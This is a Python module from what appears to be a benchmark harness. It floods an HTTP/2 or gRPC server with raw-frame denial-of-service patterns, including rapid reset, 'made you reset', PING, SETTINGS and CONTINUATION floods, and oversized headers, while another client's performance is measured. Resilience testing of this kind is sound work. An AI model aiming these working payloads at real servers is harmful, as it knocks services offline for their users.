"""A client that attacks a front: one connection after another, each poured into until it is closed.

Run by `front_attacks` as ``python -m bench.attacker ATTACK HOST:PORT PAUSE_S``, at the lowest priority, so that it takes no
time of the client that is measured. Ends with its standard input and says in JSON how it was met. What must not go in here:
what is measured.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_PATIENCE_S = 5.0
_STREAMS = 10_000

_FIELDS = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/grpc.health.v1.Health/Check"),
    (b":authority", b"a"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _literal(*fields: tuple[bytes, bytes]) -> bytes:
    """A header block without Huffman codes and tables (RFC 7541 §6.2.2); no text is longer than 126 bytes."""
    return b"".join(bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


_OPEN = _literal(*_FIELDS)
_CANCEL = struct.pack("!I", 8)
_OVERFLOW = struct.pack("!I", 0x7FFFFFFF)


def _on_streams(frames: Callable[[int], bytes], count: int = _STREAMS) -> bytes:
    return b"".join(frames(2 * number + 1) for number in range(count))


def _opened(stream: int) -> bytes:
    return _frame(_HEADERS, _END_HEADERS, stream, _OPEN)


ATTACKS: Mapping[str, Callable[[], bytes]] = {
    "rapid reset": lambda: _on_streams(lambda stream: _opened(stream) + _frame(_RST_STREAM, 0, stream, _CANCEL)),
    "made you reset": lambda: _on_streams(lambda stream: _opened(stream) + _frame(_WINDOW_UPDATE, 0, stream, _OVERFLOW)),
    "pings": lambda: _frame(_PING, 0, 0, bytes(8)) * 50_000,
    "settings": lambda: _frame(_SETTINGS, 0, 0) * 50_000,
    "empty data": lambda: _opened(1) + _frame(_DATA, 0, 1) * 50_000,
    "continuations": lambda: _frame(_HEADERS, _END_STREAM, 1, _OPEN) + _frame(_CONTINUATION, 0, 1, bytes(1)) * 50_000,
    "large headers": lambda: _on_streams(
        lambda stream: _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, _OPEN + _literal((b"x", b"y" * 120)) * 130),
        count=100,
    ),
}


def _one_connection(address: tuple[str, int], poured: bytes) -> float:
    """Pour until the other end closes; returns how many seconds that took.

    Raises:
        TimeoutError: it does not close.
    """
    began = time.monotonic()
    with contextlib.closing(socket.create_connection(address, _PATIENCE_S)) as peer:
        peer.setblocking(False)
        rest = memoryview(_PREFACE + _frame(_SETTINGS, 0, 0) + poured)
        with contextlib.suppress(ConnectionError):
            for readable, writable in _turns(peer, began):
                if readable and not peer.recv(1 << 16):
                    break
                if writable and rest:
                    rest = rest[peer.send(rest[: 1 << 16]) :]
    return time.monotonic() - began


def _turns(peer: socket.socket, began: float) -> Iterator[tuple[bool, bool]]:
    while time.monotonic() < began + _PATIENCE_S:
        readable, writable, _ = select.select([peer], [peer], [], _PATIENCE_S)
        yield bool(readable), bool(writable)
    raise TimeoutError("the connection was not closed")


def main() -> None:
    """Attack until standard input ends."""
    attack, target, pause_s = sys.argv[1:]
    host, _, port = target.rpartition(":")
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    poured, took = ATTACKS[attack](), []
    sys.stdout.write("\n")  # ready
    sys.stdout.flush()
    while not select.select([sys.stdin], [], [], float(pause_s))[0]:
        took.append(_one_connection((host, int(port)), poured))
    sys.stdout.write(json.dumps({"connections": len(took), "slowest_ms": 1000 * max(took, default=0)}) + "\n")


if __name__ == "__main__":
    main()
